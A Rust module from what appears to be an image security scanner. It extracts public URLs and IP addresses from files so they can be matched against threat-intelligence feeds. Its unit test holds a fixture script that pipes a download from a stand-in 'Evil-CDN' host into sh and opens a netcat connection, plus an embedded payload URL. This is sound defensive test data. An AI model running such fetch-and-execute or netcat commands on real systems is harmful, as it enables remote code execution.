//! Extraction of URLs and IP addresses from files: text as it is, binaries through the same
//! patterns (which only match printable runs). Only public indicators are kept, so the cache
//! holds what could ever match a feed.

use crate::analyze::{Analyzer, Artifact, Want, is_file};
use crate::layer::walk::EntryMeta;
use crate::threat::indicator::Indicator;
use regex::bytes::Regex;
use std::collections::BTreeSet;
use std::sync::LazyLock;

/// Content read per file: indicators sit in scripts, configs and binaries' string tables.
const MAX_READ: u64 = 8 << 20;
/// Indicators kept per file; a file with more is a list of its own (documentation, data).
const MAX_PER_FILE: usize = 256;

/// Files whose content is compressed or media: no plain-text indicator survives in them.
const SKIP_EXTENSIONS: &[&str] = &[
    ".gz", ".xz", ".bz2", ".zst", ".lz4", ".zip", ".jar", ".whl", ".png", ".jpg", ".jpeg", ".gif",
    ".ico", ".svgz", ".woff", ".woff2", ".ttf", ".otf", ".pyc", ".mo", ".deb", ".rpm", ".apk",
];

/// Trees of documentation, translations and reference data: an indicator there is a citation,
/// not something the image runs or connects to, and these trees are a large part of every
/// distribution image.
const SKIP_PREFIXES: &[&str] = &[
    "usr/share/doc/",
    "usr/share/man/",
    "usr/share/info/",
    "usr/share/locale/",
    "usr/share/i18n/",
    "usr/share/zoneinfo/",
    "usr/share/common-licenses/",
    "usr/share/terminfo/",
    "usr/share/mime/",
    "usr/include/",
    "var/lib/dpkg/",
    "var/lib/apt/lists/",
    "var/cache/debconf/",
];

// One pass finds all three shapes; validation by the std parsers follows.
static PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    // The pattern is a constant, tested below: building it cannot fail.
    Regex::new(
        r#"(?x-u)
        (?i:https?|ftp)://[A-Za-z0-9\-._~%!$&'()*+,;=:@/?\[\]]+
      | \b(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(?:\.(?:25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3}\b
      | \b[0-9A-Fa-f]{1,4}(?::[0-9A-Fa-f]{0,4}){3,7}\b
    "#,
    )
    .expect("indicator pattern compiles")
});

/// Finds public URLs and IP addresses in files.
pub struct IndicatorAnalyzer;

impl Analyzer for IndicatorAnalyzer {
    fn name(&self) -> &'static str {
        "indicators"
    }

    fn version(&self) -> u32 {
        1
    }

    fn wants(&self, entry: &EntryMeta) -> Option<Want> {
        let lower = entry.path.to_ascii_lowercase();
        (is_file(entry)
            && entry.size > 0
            && !SKIP_PREFIXES.iter().any(|p| entry.path.starts_with(p))
            && !SKIP_EXTENSIONS.iter().any(|e| lower.ends_with(e)))
        .then_some(Want::Content(MAX_READ))
    }

    fn analyze(
        &self,
        _entry: &EntryMeta,
        content: &[u8],
        _truncated: bool,
    ) -> Result<Vec<Artifact>, String> {
        let found = extract(content);
        Ok(if found.is_empty() {
            Vec::new()
        } else {
            vec![Artifact::Indicators(found)]
        })
    }
}

/// The public indicators in `content`, at most [`MAX_PER_FILE`], in order of their keys.
pub fn extract(content: &[u8]) -> Vec<Indicator> {
    let mut out = BTreeSet::new();
    for m in PATTERN.find_iter(content) {
        let Ok(text) = std::str::from_utf8(m.as_bytes()) else {
            continue;
        };
        // Trailing punctuation belongs to the sentence, not the URL.
        let text = text.trim_end_matches(['.', ',', ';', ':', ')', ']', '\'', '!', '?']);
        let Some(ind) = Indicator::parse(text) else {
            continue;
        };
        let keep = match &ind {
            // A bare `a::b` is more often a path in a symbol table than an address.
            Indicator::Ip(std::net::IpAddr::V6(_)) => text.matches(':').count() >= 3,
            Indicator::Ip(_) | Indicator::Url(_) => true,
            _ => false,
        };
        if keep && ind.is_public() {
            out.insert(ind);
            if out.len() >= MAX_PER_FILE {
                break;
            }
        }
    }
    out.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn keys(text: &[u8]) -> Vec<String> {
        extract(text).iter().map(Indicator::key).collect()
    }

    #[test]
    fn finds_public_urls_and_addresses_in_text_and_binaries() {
        let script = b"#!/bin/sh\ncurl -s http://Evil-CDN.net:80/x.sh | sh # see https://docs.test/.\nnc 192.9.135.73 1194\nping 10.0.0.1; ping 2606:4700:4700::1111\nversion 1.2.3\n";
        assert_eq!(
            keys(script),
            vec![
                "ip:192.9.135.73",
                "ip:2606:4700:4700::1111",
                "url:http://evil-cdn.net/x.sh"
            ]
        );
        let mut binary = vec![0u8, 1, 2, 0xff];
        binary.extend_from_slice(b"\x00\x00http://1.2.3.4:8080/payload\x00std::io::Read\x00");
        assert_eq!(keys(&binary), vec!["url:http://1.2.3.4:8080/payload"]);
        assert!(keys(b"no indicators here, 999.1.1.1 or 1.2.3").is_empty());
        assert!(keys(&vec![0xffu8; 1 << 16]).is_empty());
    }
}
